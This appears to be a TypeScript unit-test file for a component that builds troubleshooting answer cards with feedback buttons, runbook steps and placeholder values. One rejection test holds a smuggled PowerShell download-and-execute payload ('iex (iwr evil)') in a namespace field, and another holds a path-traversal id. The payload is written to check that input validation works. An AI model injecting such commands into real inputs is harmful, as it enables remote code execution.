import { answerCard, answerSubmits, type AnswerData } from '../../../cards/answer/answer.ts';
import { cardButtons, cardText } from '../../../cards/card-text.ts';
import { cardBytes, maxCardBytes } from '../../../cards/card.ts';
import { formOf } from '../../support/fake-desk.ts';
import { answer, answerWith, form } from '../samples.ts';

function titles(data: AnswerData): string[] {
  return cardButtons(answerCard(data)).map(({ title }) => title);
}

describe('answerCard', () => {
  it('asks whether it helped, offers the rest and more like it', () => {
    expect(titles(answer)).toEqual(['This fixed it', 'It did not help', 'Show the rest', 'Show more like this']);
    expect(titles({ ...answer, more: null })).toEqual(['This fixed it', 'It did not help', 'Show more like this']);
  });

  it('offers to walk through its steps until it is known whether it helped', () => {
    const runbook = { id: 'restore-connectivity', label: 'Walk me through: Restore connectivity' };
    const withSteps = { ...answer, runbook };
    const [, , steps] = cardButtons(answerCard(withSteps));
    expect(steps).toEqual({
      title: runbook.label,
      data: { verb: 'runbook.started', form, article: 'event-33008', runbook: 'restore-connectivity' },
      inputs: [],
    });
    expect(titles(withSteps)).toHaveLength(5);
    expect(titles({ ...withSteps, verdict: 'failed' })).toEqual(['Show the rest', 'Show more like this']);
  });

  it('offers no other articles to somebody they are not for', () => {
    expect(titles({ ...answer, more: null, hasRelated: false })).toEqual(['This fixed it', 'It did not help']);
    expect(titles({ ...answer, hasRelated: false, verdict: 'helped' })).toEqual(['Show the rest']);
  });

  it.each([
    ['helped', 'Answered: this fixed it.'],
    ['failed', 'Answered: it did not help.'],
  ] as const)('says instead of asking once it %s', (verdict, said) => {
    expect(titles({ ...answer, verdict })).toEqual(['Show the rest', 'Show more like this']);
    expect(cardText(answerCard({ ...answer, verdict }))).toContain(said);
    expect(cardText(answerCard(answer))).not.toContain('Answered:');
  });

  it('sends the article, the form and the values of the placeholders with every button', () => {
    for (const { data } of cardButtons(answerCard(answer))) {
      expect(data).toMatchObject({ article: 'event-33008', form, fill: { namespace: 'contoso-ns' } });
    }
    expect(cardButtons(answerCard(answer))[2]?.data).toMatchObject({ verb: 'answer.more', part: 2 });
    expect(cardButtons(answerCard({ ...answer, fill: undefined }))[0]?.data).toMatchObject({ fill: {} });
  });

  it('marks headings as headings and reads well where cards are not shown', () => {
    const card = answerCard(answer);
    const headings = JSON.stringify(card).match(/"style":"heading"/g);
    expect(headings).toHaveLength(4);
    expect(card.fallbackText).toBe(`${answer.page.title}. ${answer.page.meaning}`);
    expect(card.speak).toBe(answer.speak);
  });

  it.each<[string, AnswerData]>([
    ['nothing to speak', { ...answer, speak: '' }],
    ['a page that is none', answerWith({ status: { label: 1 as unknown as string } })],
    ['a runbook whose id is a path', { ...answer, runbook: { id: '../small', label: 'Steps' } }],
    ['a value that is more than a host name', { ...answer, fill: { namespace: 'x.example; iex (iwr evil) #' } }],
  ])('refuses %s', (_what, data) => {
    expect(() => answerCard(data)).toThrow();
  });

  it('shares the page with another card of the same page, and nothing else', () => {
    const first = answerCard(answer);
    const asShown = JSON.stringify(first);
    const { page } = answer;
    const second = answerCard({ ...answer, page, form: formOf(2), fill: {}, why: ['a reason of its own'] });
    expect(second.body.slice(0, -1)).toEqual(first.body.slice(0, -1));
    for (const [card, own, other] of [[first, form, formOf(2)] as const, [second, formOf(2), form] as const]) {
      expect(card.actions).toHaveLength(4);
      for (const action of card.actions ?? []) {
        expect(action).toMatchObject({ data: { form: own }, fallback: { data: { form: own } } });
      }
      expect(JSON.stringify(card)).not.toContain(other);
    }
    expect(JSON.stringify(second)).not.toMatch(/contoso-ns|event 33008 of/);
    expect(JSON.stringify(first)).toBe(asShown);
    expect(JSON.stringify(answerCard(answer))).toBe(asShown);
  });

  it('stays under the limit when it is full', () => {
    const bytes = cardBytes(answerCard(full()));
    expect(bytes).toBeGreaterThan(maxCardBytes * 0.8);
    expect(bytes).toBeLessThan(maxCardBytes);
  });
});

describe('answerSubmits', () => {
  it('has one schema for each verb', () => {
    expect(answerSubmits.map(({ shape }) => shape.verb.value)).toEqual([
      'answer.helped',
      'answer.failed',
      'answer.more',
      'answer.related',
    ]);
  });
});

// The longest texts an article may have, all values of placeholders, and a long part of a procedure.
function full(): AnswerData {
  const words = (length: number) => 'Open the console. '.repeat(Math.ceil(length / 18)).slice(0, length);
  const steps = Array.from({ length: 10 }, (_, index) => ({
    kind: 'step' as const,
    marker: `${String(index + 1)}.`,
    runs: [
      { text: words(60), style: 'plain' as const },
      { text: words(20), style: 'strong' as const },
      { text: words(50), style: 'plain' as const },
    ],
  }));
  const command = { kind: 'command' as const, text: Array(2).fill(words(80)).join('\n') };
  const long = 'n'.repeat(100);
  return {
    ...answer,
    fill: { namespace: 'n'.repeat(61), serviceBusDomain: 'servicebus.usgovcloudapi.net' },
    page: {
      ...answer.page,
      title: words(110),
      meaning: words(240),
      facts: Array.from({ length: 4 }, () => ({ label: words(20), value: words(80) })),
      sections: [
        { heading: 'Cause', blocks: [{ kind: 'text', marker: '', runs: [{ text: words(400), style: 'plain' }] }] },
        { heading: 'Resolution', blocks: [...steps, command, command] },
      ],
      links: Array.from({ length: 3 }, () => ({ title: words(60), url: `https://learn.microsoft.com/${long}` })),
    },
    why: [words(60), words(60), words(60)],
    source: words(120),
    others: words(120),
    speak: words(240),
  };
}
